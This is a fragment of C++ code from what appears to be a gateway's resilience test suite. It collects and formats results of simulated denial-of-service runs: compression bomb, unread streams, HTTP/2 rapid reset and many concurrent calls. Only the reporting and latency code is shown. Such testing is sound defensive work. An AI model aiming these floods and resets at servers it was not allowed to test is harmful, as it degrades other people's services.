  const absl::Time give_up = absl::Now() + deadline + absl::Seconds(30);
  absl::Time last = start;
  bool cancelled = false;
  for (int done = 0; done < calls;) {
    void* tag = nullptr;
    bool ok = false;
    const grpc::CompletionQueue::NextStatus next =
        cq.AsyncNext(&tag, &ok, absl::ToChronoTime(absl::Now() + absl::Seconds(1)));
    if (next == grpc::CompletionQueue::SHUTDOWN) break;
    if (next == grpc::CompletionQueue::TIMEOUT) {
      if (!cancelled && absl::Now() > give_up) {
        for (auto& call : all) call->context.TryCancel();
        cancelled = true;
      }
      continue;
    }
    auto* call = static_cast<Call*>(tag);
    last = absl::Now();
    const int code = call->status.error_code();
    ++result.codes[code];
    result.latencies[code].push_back(last - call->started);
    ++done;
  }
  result.elapsed = last - start;
  for (auto& [code, values] : result.latencies) std::sort(values.begin(), values.end());
  cq.Shutdown();
  void* tag = nullptr;
  bool ok = false;
  while (cq.Next(&tag, &ok)) {
  }
  return result;
}

absl::Duration Quantile(const std::vector<absl::Duration>& values, double q) {
  if (values.empty()) return absl::ZeroDuration();
  const size_t i = static_cast<size_t>(q * static_cast<double>(values.size() - 1) + 0.5);
  return values[std::min(i, values.size() - 1)];
}

namespace {

std::string Ms(absl::Duration d) {
  return absl::StrFormat("%.1f ms", absl::ToDoubleMilliseconds(d));
}

// "median M, p99 P, max X" of sorted `values`.
std::string Spread(const std::vector<absl::Duration>& values) {
  if (values.empty()) return "-";
  return absl::StrCat("median ", Ms(Quantile(values, 0.5)), ", p99 ", Ms(Quantile(values, 0.99)),
                      ", max ", Ms(values.back()));
}

template <typename Map>
std::string Counts(const Map& map) {
  if (map.empty()) return "-";
  return absl::StrJoin(map, " ", absl::PairFormatter(":"));
}

}  // namespace

std::string Describe(const CompressionBombResult& r) {
  std::string out = absl::StrFormat(
      "compression bomb: %d request(s) of %d gzip bytes expanding to %d, %d connection(s), %s\n",
      r.streams.size(), r.compressed_bytes, r.expanded_bytes, r.connections,
      absl::FormatDuration(r.elapsed));
  for (const StreamOutcome& s : r.streams) {
    absl::StrAppend(&out, "  stream ", s.stream_id, ": ", Describe(s), "\n");
  }
  return out;
}

std::string Describe(const UnreadStreamsResult& r) {
  return absl::StrFormat(
      "unread streams: %d streams on %d connection(s), %d requests sent whole, %s; "
      "%d REFUSED_STREAM, %d other resets (RST_STREAM codes %s), %d answered (grpc-status %s), "
      "%d pending (%d with headers), %d closed with the connection, %d GOAWAY\n"
      "  refused or answered after: %s\n",
      r.streams, r.connections, r.requests_sent, absl::FormatDuration(r.elapsed), r.refused_stream,
      r.reset_other, Counts(r.resets), r.answered, Counts(r.grpc_status), r.pending,
      r.pending_with_headers, r.closed, r.goaways, Spread(r.answer_latencies));
}

std::string Describe(const RapidResetResult& r) {
  return absl::StrFormat(
      "rapid reset: %d streams reset in %s (%.0f/s), %d connection(s), %d GOAWAY (last error "
      "%d)%s; received %d frames (by type %s), %d bytes\n",
      r.streams, absl::FormatDuration(r.elapsed),
      static_cast<double>(r.streams) / std::max(1e-9, absl::ToDoubleSeconds(r.elapsed)),
      r.connections, r.goaways, r.last_goaway_error, r.timed_out ? ", timed out" : "",
      r.frames_received, Counts(r.frames_by_type), r.bytes_received);
}

std::string Describe(const ManyCallsResult& r) {
  std::string out =
      absl::StrFormat("many calls: %d calls started in %s, all answered in %s\n", r.calls,
                      absl::FormatDuration(r.started_in), absl::FormatDuration(r.elapsed));
  for (const auto& [code, latencies] : r.latencies) {
    const auto within = std::upper_bound(latencies.begin(), latencies.end(), absl::Seconds(1));
    absl::StrAppendFormat(&out, "  code %2d: %5d calls, answered after %s; %d within 1s\n", code,
                          latencies.size(), Spread(latencies), within - latencies.begin());
  }
  return out;
}

}  // namespace imgw::testing::attacks
